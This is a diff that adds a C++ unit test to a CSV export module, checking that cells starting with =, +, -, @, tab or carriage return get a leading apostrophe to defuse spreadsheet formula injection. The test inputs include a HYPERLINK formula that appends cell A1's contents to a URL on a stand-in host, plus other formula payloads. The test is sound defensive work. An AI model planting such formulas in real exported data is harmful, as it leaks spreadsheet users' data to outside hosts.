@@ -8,6 +8,7 @@
 #include <sstream>
 #include <vector>
 
+#include "format/common.h"
 #include "format/events.h"
 #include "format/graph.h"
 #include "format/series.h"
@@ -265,6 +266,29 @@ TEST(ExportCsv, HeaderAndQuotingRoundTrip) {
   expect_fields(f, {{0, "4211"}, {1, "2024-10-16"}, {2, "USAGOV"}, {9, "4.0"}, {10, "CONSULT"},
                     {11, "a,b"}, {12, "two\nlines"}, {13, "say \"hi\""},
                     {15, "https://example.com/a?x=1"}, {17, e.sentence}});
+}
+
+// Issue 13 item 13: a cell that starts with = + - @ (or TAB, CR) is a formula
+// to a spreadsheet; it gets a leading ' (OWASP), plain numbers stay numbers.
+TEST(ExportCsv, FormulaCellsAreNeutralised) {
+  StoredEvent e = sample_event();
+  e.goldstein = -2;
+  e.source_text = "=HYPERLINK(\"http://x.example/?\"&A1,\"a\")";
+  e.target_text = "+81 3";
+  e.rule = "-1+1";
+  e.doc_name = "@SUM(A1)";
+  e.doc_url = "\t=1";
+  e.sentence = "\r=2";
+  auto f = parse_csv_record(render(EventFormat::Csv, e));
+  ASSERT_EQ(f.size(), 18u);
+  expect_fields(f, {{9, "-2.0"}, {11, "'=HYPERLINK(\"http://x.example/?\"&A1,\"a\")"}, {12, "'+81 3"},
+                    {13, "'-1+1"}, {14, "'@SUM(A1)"}, {15, "'\t=1"}, {17, "'\r=2"}});
+  EXPECT_EQ(csv_field("-12.5"), "-12.5");
+  EXPECT_EQ(csv_field("+3"), "+3");
+  EXPECT_EQ(csv_field("-"), "'-");
+  EXPECT_EQ(csv_field("1-2"), "1-2") << "only the first character counts";
+  EXPECT_EQ(csv_field("- 3"), "'- 3");
+  EXPECT_EQ(csv_field("=1,2"), "\"'=1,2\"");
 }
 
 TEST(ExportPlover, PolecatKeys) {
